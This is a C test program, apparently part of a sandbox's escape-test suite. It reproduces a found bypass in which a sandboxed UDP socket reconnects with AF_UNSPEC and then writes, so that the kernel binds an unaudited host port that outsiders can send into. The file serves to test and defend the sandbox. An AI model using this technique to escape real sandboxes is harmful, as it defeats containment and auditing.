/* esc_udp_unspec — open a UDP port in the host's network namespace from a
 * socket moat put there: connect to an allowed destination (moat installs a
 * host socket connected to it), dissolve the association with
 * connect(AF_UNSPEC), and write(2): the kernel binds the unconnected socket
 * by itself (see below).  Found by the review of the non-root mode.
 *
 * The kernel binds an unbound UDP socket by itself on its first send
 * (inet_send_prepare -> inet_autobind), before udp_sendmsg finds there is
 * no destination: write(2) (and sendto with no address, which the filter
 * lets run in the kernel) fails EDESTADDRREQ and leaves the socket bound to
 * 0.0.0.0:<ephemeral> of the host.  Anyone on the host or its network can
 * then send into the sandbox, which reads it with recvfrom — the inbound
 * half of what host_udp_peer() exists to prevent, and nothing is audited.
 *
 * Fixture: udp_spray.py, a host process that sends $ESC_TOKEN to every UDP
 * port of the host's /proc/net/udp held by a process of this attempt's pid
 * namespace (the attacker outside; never another program's port).
 *
 * Under moat an AF_UNSPEC connect of a UDP socket of the host's namespace
 * puts a fresh unconnected socket of the private world in its place.
 *
 * usage: ESC_TOKEN=... esc_udp_unspec ALLOWED-PORT [SECONDS]
 */
#include "esc.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>

int main(int argc, char **argv)
{
	esc_token();
	if (argc < 2 || atoi(argv[1]) <= 0)
		esc_usage("esc_udp_unspec ALLOWED-PORT [SECONDS]");
	int wait_s = argc > 2 ? atoi(argv[2]) : 5;
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (s < 0)
		esc_usage("socket(AF_INET, SOCK_DGRAM) failed");
	struct sockaddr_in al = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[1]))};
	al.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (connect(s, (struct sockaddr *)&al, sizeof al) < 0)
		esc_usage("connect to the allowed destination failed");
	struct sockaddr un = {.sa_family = AF_UNSPEC};
	if (connect(s, &un, sizeof un) < 0)
		fprintf(stderr, "# connect(AF_UNSPEC): %s\n", esc_errname(errno));
	/* No address anywhere: the kernel, not moat, decides this one. */
	esc_udp_write_and_listen(s, wait_s);
	return esc_finish();
}
